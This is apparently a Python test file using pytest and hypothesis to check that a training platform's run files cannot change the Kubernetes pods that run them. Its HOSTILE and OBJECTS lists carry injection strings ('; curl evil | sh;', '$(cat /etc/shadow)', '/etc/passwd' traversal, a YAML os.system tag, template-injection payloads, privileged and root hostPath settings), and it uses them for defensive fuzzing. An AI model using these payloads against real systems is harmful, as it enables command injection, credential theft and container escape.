"""A run file decides what is trained, and nothing of the pods that train it: whatever stands in one, they are
the platform's but for a few named places."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import event, given, settings
from hypothesis import strategies as st

from tests.charts.pod_security import violations
from tests.launcher.random_runs import (
    DIGITS,
    EXAMPLE,
    KINDS,
    PATHS,
    PLATFORM,
    Made,
    change,
    documents,
    plausible,
    put,
)
from trainyard.errors import ConfigError
from trainyard.planning.objects import run_objects
from trainyard.platform import Platform
from trainyard.run_file.load import load_run
from trainyard.run_file.network import EFA_HUGE_PAGES
from trainyard.run_file.queue import APPLICATION_LABEL, GANG_LABEL, PRIORITY_LABELS, QUEUE_LABELS
from trainyard_trainer.config.trainer_config import CODE_VARIABLE, CONFIG_VARIABLE, read_config
from trainyard_trainer.run_files import submission

NAMESPACE = "team"
OURS = {"app.kubernetes.io/managed-by", "trainyard.io/run"}
QUEUES = {*QUEUE_LABELS.values(), *PRIORITY_LABELS.values(), GANG_LABEL, APPLICATION_LABEL}
OF_THE_NETWORK = re.compile(r"NCCL_[A-Z_]+|GLOO_SOCKET_IFNAME|FI_[A-Z_]+")
DEVICE = re.compile(r"[a-z0-9.-]+/[A-Za-z0-9._-]+")

HOSTILE = (
    "../../etc", "/etc/passwd", "kube-system/x", "x\n  hostNetwork: true", "x\"\n---\nkind: Pod",
    "$(TRAINYARD_LOG)", "$(cat /etc/shadow)", "`id`", "'; curl evil | sh; '", "{{ plan }}",
    "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "!!python/object/apply:os.system [id]",
    "*alias", "&anchor", "privileged", "true", "0", "\u202etxt.exe", "a" * 300, "registry/x:1 --privileged",
    "s3://b/../../x", "/mnt/trainyard/../../proc/1/root",
)  # fmt: skip
OBJECTS: tuple[Any, ...] = (
    {"hostPath": {"path": "/"}},
    [{"name": "root", "hostPath": {"path": "/"}}],
    {"privileged": True, "runAsUser": 0},
    [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}],
    ["sh", "-c", "id"],
)
STRANGERS = (
    "namespace", "metadata", "metadata.namespace", "metadata.labels", "spec", "entrypoint", "command",
    "env", "volumes", "volumeMounts", "hostNetwork", "securityContext", "serviceAccountName",
    "nodeSelector", "tolerations", "rayClusterSpec", "spec.rayClusterSpec.headGroupSpec", "runtimeEnvYAML",
    "submissionMode", "labels", "annotations", "storage", "storage.path", "storage.endpoint", "platform",
    "resources.limits", "__class__", "train.__init__", "data.path", "code", "function",
    "headGroupSpec.template.spec.hostPID", "imagePullSecrets", "network.environment",
)  # fmt: skip
"""Keys that a run file does not have, or that decide what is not its own."""

each_kind = pytest.mark.parametrize("kind", KINDS)
often = settings(max_examples=2 * settings().max_examples // len(KINDS))


def confined(document: dict[str, Any], platform: Platform = PLATFORM) -> None:
    """The RayJob of a run file is the platform's but for the named places. Raises ConfigError."""
    objects = run_objects(load_run(document), platform, NAMESPACE)
    planned, job = objects.plan, objects.job
    # What goes over the wire says what the object says.
    assert yaml.safe_load(yaml.safe_dump(job)) == json.loads(json.dumps(job)) == job

    assert (job["apiVersion"], job["kind"]) == ("ray.io/v1", "RayJob")
    metadata = job["metadata"]
    assert metadata.keys() == {"name", "namespace", "labels"}
    assert metadata["namespace"] == NAMESPACE
    assert re.fullmatch(r"[a-z]([a-z0-9-]{0,45}[a-z0-9])?", metadata["name"])
    assert OURS <= metadata["labels"].keys() <= OURS | QUEUES
    for value in metadata["labels"].values():
        assert re.fullmatch(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,61}[A-Za-z0-9])?", value)

    spec = job["spec"]
    assert spec["entrypoint"] == "python -m trainyard_trainer"
    assert spec["submissionMode"] == "HTTPMode"
    assert spec.keys() <= {
        "submissionMode", "entrypoint", "backoffLimit", "preRunningDeadlineSeconds", "suspend",
        "shutdownAfterJobFinishes", "ttlSecondsAfterFinished", "deletionStrategy", "rayClusterSpec",
    }  # fmt: skip

    shape, given = spec["rayClusterSpec"], platform.ray_cluster_spec
    added = {"enableInTreeAutoscaling", "autoscalerOptions"} if planned.is_elastic else set()
    assert shape.keys() == given.keys() | added
    assert {key: shape[key] for key in given.keys() - OPEN} == {
        key: given[key] for key in given.keys() - OPEN
    }
    if planned.is_elastic:
        assert platform.autoscaler is not None
        assert shape["autoscalerOptions"] == platform.autoscaler.options
    volumes = platform.autoscaler.volumes if planned.is_elastic and platform.autoscaler else ()
    ours = {CONFIG_VARIABLE, submission.VARIABLE, *([CODE_VARIABLE] if planned.code else [])}
    same_pod(shape["headGroupSpec"], given["headGroupSpec"], ours, volumes)
    for group in shape["workerGroupSpecs"]:
        pool = group["groupName"].removesuffix("-data")
        same_pod(group, platform.worker_group(pool), set(), ())
        if group["groupName"] == pool:
            # Which nodes, and how much of each, is the platform's to say.
            limit = platform.pool(pool).memory_gib * 2**10
            assert int(resources(group)["limits"]["memory"].removesuffix("Mi")) <= limit


OPEN = {"headGroupSpec", "workerGroupSpecs"}
KNOWN_RESOURCES = {"cpu", "memory", "ephemeral-storage"}


def resources(group: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = group["template"]["spec"]["containers"][0]["resources"]
    return found


def same_pod(
    group: dict[str, Any], given: dict[str, Any], variables: set[str], volumes: Sequence[Any]
) -> None:
    """A group's pod is the platform's, but for image, sizes, labels of ours and known variables."""
    pod, base = copy.deepcopy(group["template"]), copy.deepcopy(given["template"])
    assert violations(pod["spec"]) == []
    labels = pod["metadata"].pop("labels")
    assert labels.keys() == (base["metadata"].pop("labels", {})).keys() | OURS
    assert pod["metadata"] == base["metadata"]
    container, like = pod["spec"]["containers"][0], base["spec"]["containers"][0]
    assert isinstance(container.pop("image"), str)
    for quantities in container.pop("resources").values():
        for resource in quantities.keys() - KNOWN_RESOURCES - EFA_HUGE_PAGES.keys():
            assert DEVICE.fullmatch(resource), resource
    assert not {"image", "resources"} & like.keys()
    env = {one["name"]: one for one in container.pop("env", [])}
    for one in like.pop("env", []):
        if not OF_THE_NETWORK.fullmatch(one["name"]):
            assert env.pop(one["name"]) == one
    assert all(name in variables or OF_THE_NETWORK.fullmatch(name) for name in env)
    assert all(one.keys() == {"name", "value"} for one in env.values())
    assert pod["spec"].pop("volumes") == [*base["spec"].pop("volumes"), *volumes]
    assert pod == base


hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from(OBJECTS),
    st.tuples(st.sampled_from(HOSTILE), st.text(max_size=10)).map("".join),
)
FREE: dict[tuple[str, ...], Callable[[Sequence[str]], Any]] = {
    ("data", "source"): lambda texts: f"s3://bucket/{''.join(texts)}",
    ("command",): list,
    ("train_loop_config",): lambda texts: {text: [*OBJECTS, *texts] for text in texts},
    ("datasets",): lambda texts: dict(zip(texts, texts, strict=True)),
}
"""Keys that take any words, and how they take several."""


def put_words(kind: str, document: dict[str, Any], texts: Sequence[str]) -> None:
    for path in FREE:
        if path in PATHS[kind]:
            put(document, path, FREE[path](texts))


@st.composite
def attacks(draw: st.DrawFn, kind: str) -> Made:
    """A run file that makes sense but for hostile words where it is free, and often for a few other keys."""
    document, platform = draw(plausible(kind))
    put_words(kind, document, draw(st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=3)))
    return change(draw, kind, document, hostile) if draw(st.booleans()) else document, platform


@each_kind
@pytest.mark.parametrize("texts", [HOSTILE, ("x",)], ids=["hostile", "plain"])
def test_any_words_are_taken_where_they_are_free_and_change_nothing_of_the_pods(
    kind: str, texts: Sequence[str]
) -> None:
    document = copy.deepcopy(KINDS[kind])
    put_words(kind, document, texts)
    assert document != KINDS[kind]
    confined(document)


@each_kind
@often
@given(data=st.data())
def test_whatever_a_run_file_says_its_pods_are_the_platform_s(
    kind: str, data: st.DataObject
) -> None:
    anything = documents(kind).map(lambda document: (document, PLATFORM))
    try:
        confined(*data.draw(st.one_of(attacks(kind), anything)))
    except ConfigError:
        event("refused")
    else:
        event("rendered")


@each_kind
@often
@given(data=st.data())
def test_what_makes_sense_is_confined_too(kind: str, data: st.DataObject) -> None:
    try:
        confined(*data.draw(plausible(kind)))
    except ConfigError:
        event("refused")
    else:
        event("rendered")


@pytest.mark.parametrize("key", STRANGERS)
@pytest.mark.parametrize("value", [*OBJECTS, HOSTILE[0], True])
def test_a_key_that_decides_about_pods_is_no_key_of_a_run_file(
    tmp_path: Path, key: str, value: Any
) -> None:
    with pytest.raises(ConfigError):
        load_run(EXAMPLE, [f"{key}={json.dumps(value)}"])
    document = copy.deepcopy(DIGITS)
    document[key.partition(".")[0]] = value
    (tmp_path / "run.yaml").write_text(yaml.safe_dump(document))
    with pytest.raises(ConfigError):
        load_run(tmp_path / "run.yaml")


@each_kind
def test_what_is_no_key_of_one_kind_is_named_in_its_refusal(kind: str) -> None:
    own = {path[0] for path in PATHS[kind]} | {"train", "command", "function"}
    strangers = {key.partition(".")[0] for key in STRANGERS} - own
    with pytest.raises(ConfigError) as error:
        load_run(KINDS[kind] | dict.fromkeys(strangers, True))
    unknown = [line.partition(": unknown key")[0] for line in error.value.details]
    assert sorted(unknown) == sorted(strangers)


@pytest.mark.parametrize("text", [text for text in HOSTILE if not text.isalpha()])
def test_a_name_that_leads_elsewhere_is_refused(text: str) -> None:
    with pytest.raises(ConfigError):
        load_run(EXAMPLE, name=text)
    with pytest.raises(ConfigError):
        load_run(EXAMPLE, [f"name={json.dumps(text)}"])


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_of_the_run_file_travels_in_one_variable_and_arrives_as_it_was(text: str) -> None:
    """`data.source` takes any path; Kubernetes makes one dollar of two, and no shell sees it."""
    source = f"s3://bucket/{text}"
    document = copy.deepcopy(DIGITS) | {"data": {"source": source}}
    confined(document)
    job = run_objects(load_run(document), PLATFORM, NAMESPACE).job
    container = job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
    (variable,) = [one for one in container["env"] if one["name"] == CONFIG_VARIABLE]
    value = variable.pop("value")
    assert json.dumps(source)[1:-1] not in json.dumps(job)
    config = read_config({CONFIG_VARIABLE: value.replace("$$", "$")})
    assert config.data.source == source
    # No single dollar is left that Kubernetes would take for a variable.
    assert "$" not in value.replace("$$", "")


@pytest.mark.parametrize("kind", [kind for kind in KINDS if "code" in KINDS[kind]])
def test_the_names_and_contents_of_code_change_nothing_of_the_pods(
    tmp_path: Path, kind: str
) -> None:
    for number, text in enumerate(HOSTILE):
        (tmp_path / f"{number}").write_text(text)
        if "/" not in text and len(text) < 256:
            (tmp_path / text).write_text(text)
    confined(KINDS[kind] | {"code": str(tmp_path)})


@pytest.mark.parametrize("code", ["a" * 300, "a\0b", "loop", "no/such"])
def test_a_code_that_is_no_folder_is_refused(tmp_path: Path, code: str) -> None:
    (tmp_path / "loop").symlink_to("loop")
    with pytest.raises(ConfigError, match="code = "):
        confined(KINDS["command"] | {"code": f"{tmp_path}/{code}"})


def test_the_search_finds_a_pod_that_is_not_the_platform_s() -> None:
    """Each of the places that a run file must not reach."""
    spec = PLATFORM.ray_cluster_spec
    group = copy.deepcopy(spec["headGroupSpec"])
    group["template"]["metadata"]["labels"] |= dict.fromkeys(OURS, "x")
    group["template"]["spec"]["containers"][0] |= {"image": "a:1", "resources": {}}
    same_pod(group, spec["headGroupSpec"], set(), [])
    changes: dict[str, Any] = {
        "hostNetwork": True,
        "serviceAccountName": "other",
        "volumes": [{"name": "tmp", "hostPath": {"path": "/"}}],
        "nodeSelector": {"a": "b"},
        "initContainers": [{"name": "x"}],
    }
    for key, value in changes.items():
        wrong = copy.deepcopy(group)
        wrong["template"]["spec"][key] = value
        with pytest.raises(AssertionError):
            same_pod(wrong, spec["headGroupSpec"], set(), [])
    for key in ("command", "args", "envFrom", "volumeMounts", "securityContext", "lifecycle"):
        wrong = copy.deepcopy(group)
        wrong["template"]["spec"]["containers"][0][key] = [{"name": "x"}]
        with pytest.raises((AssertionError, AttributeError)):
            same_pod(wrong, spec["headGroupSpec"], set(), [])
    wrong = copy.deepcopy(group)
    wrong["template"]["spec"]["containers"][0]["env"].append({"name": "LD_PRELOAD", "value": "x"})
    with pytest.raises(AssertionError):
        same_pod(wrong, spec["headGroupSpec"], set(), [])
